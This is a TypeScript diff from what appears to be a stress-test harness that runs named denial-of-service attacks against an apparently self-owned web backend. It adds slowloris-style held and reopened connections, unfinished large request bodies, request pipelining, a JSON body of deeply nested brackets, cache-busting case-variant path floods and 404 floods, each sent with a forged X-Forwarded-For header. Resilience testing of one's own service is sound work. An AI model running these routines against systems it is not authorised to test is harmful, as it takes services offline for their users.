@@ -171,24 +171,57 @@ export const attacks: Attack[] = [
       })),
   },
   {
-    name: 'slow-readers',
-    run: async ({ url, from, publishableKey }, until) => {
-      const { port, hostname } = new URL(url);
-      const tally = new Tally();
-      const sockets = Array.from({ length: 60 }, () => {
-        const socket = net.connect(Number(port), hostname);
-        socket.on('error', () => {});
-        socket.on('close', () => tally.add('closed'));
-        socket.write(
-          `GET ${files}?select=*&limit=150 HTTP/1.1\r\nHost: ${hostname}:${port}\r\napikey: ${publishableKey}\r\nX-Forwarded-For: ${from}\r\n\r\n`,
-        );
-        // Never reads what it is sent.
-        return socket.pause();
-      });
-      await ended(until);
-      for (const socket of sockets) socket.destroy();
-      return tally.toString();
+    name: 'spellings',
+    run: (target, until) =>
+      flood(target, until, 8, (turn) => ({
+        path: spell('/our-websites', turn),
+        headers: { 'accept-encoding': 'br' },
+      })),
+  },
+  {
+    name: 'not-found',
+    run: (target, until) => flood(target, until, 400, (turn) => ({ path: `/demo/nothing-${turn}` })),
+  },
+  {
+    name: 'brackets',
+    run: (target, until) => {
+      const body = `[${'[],'.repeat(340_000)}[]]`;
+      return flood(target, until, 20, () => ({
+        path: '/rest/v1/rpc/similar_suggestions',
+        method: 'POST',
+        headers: { apikey: target.publishableKey, 'content-type': 'application/json' },
+        body,
+      }));
     },
+  },
+  {
+    name: 'slow-readers',
+    run: (target, until) => leave(target, until, 60, [request(target, `GET ${files}?select=*&limit=150`)]),
+  },
+  {
+    name: 'unread-archives',
+    run: (target, until) =>
+      leave(target, until, 80, [
+        request(
+          target,
+          `GET ${target.repository.replace(/^git/, '/functions/v1/git').replace(/\.git$/, '/archive.zip')}`,
+        ),
+      ]),
+  },
+  {
+    name: 'unfinished',
+    run: (target, until) => {
+      const headers = { 'Content-Type': 'application/json', 'Content-Length': 2 ** 20 };
+      const head = request(target, 'POST /rest/v1/rpc/similar_suggestions', headers);
+      return leave(target, until, 700, [head, ' '.repeat(1_000_000)]);
+    },
+  },
+  {
+    name: 'pipelines',
+    run: (target, until) =>
+      leave(target, until, 60, [
+        request(target, 'GET /storage/v1/object/public/project-files/none').repeat(800),
+      ]),
   },
 ];
 
@@ -204,5 +237,55 @@ function ended(signal: AbortSignal): Promise<void> {
   return new Promise((resolve) => {
     if (signal.aborted) resolve();
     else signal.addEventListener('abort', () => resolve(), { once: true });
+  });
+}
+
+/** A request as it is written, without its body. */
+function request(
+  { url, from, publishableKey }: AttackedTarget,
+  line: string,
+  headers: Record<string, string | number> = {},
+): string {
+  const all = { Host: new URL(url).host, apikey: publishableKey, 'X-Forwarded-For': from, ...headers };
+  const lines = Object.entries(all).map(([name, value]) => `${name}: ${value}`);
+  return `${[`${line} HTTP/1.1`, ...lines].join('\r\n')}\r\n\r\n`;
+}
+
+/** Opens connections that write the pieces and then neither read nor write; each that is closed is opened again. */
+async function leave(
+  { url }: AttackedTarget,
+  until: AbortSignal,
+  count: number,
+  pieces: string[],
+): Promise<string> {
+  const { port, hostname } = new URL(url);
+  const tally = new Tally();
+  const sockets = new Set<net.Socket>();
+  const open = () => {
+    const socket = net.connect(Number(port), hostname);
+    sockets.add(socket);
+    tally.add('opened');
+    socket.on('error', () => {});
+    socket.on('close', () => {
+      sockets.delete(socket);
+      tally.add('closed');
+      if (!until.aborted) setTimeout(open, 50);
+    });
+    for (const piece of pieces) socket.write(piece);
+    socket.pause();
+  };
+  for (let at = 0; at < count; at += 1) open();
+  await ended(until);
+  for (const socket of sockets) socket.destroy();
+  return tally.toString();
+}
+
+/** One of the many spellings of a path that lead to the same page: its letters in large or small, as the bits of `turn` say. */
+function spell(path: string, turn: number): string {
+  let bits = turn + 1;
+  return path.replace(/[a-z]/g, (letter) => {
+    const isLarge = bits % 2 === 1;
+    bits = Math.floor(bits / 2);
+    return isLarge ? letter.toUpperCase() : letter;
   });
 }
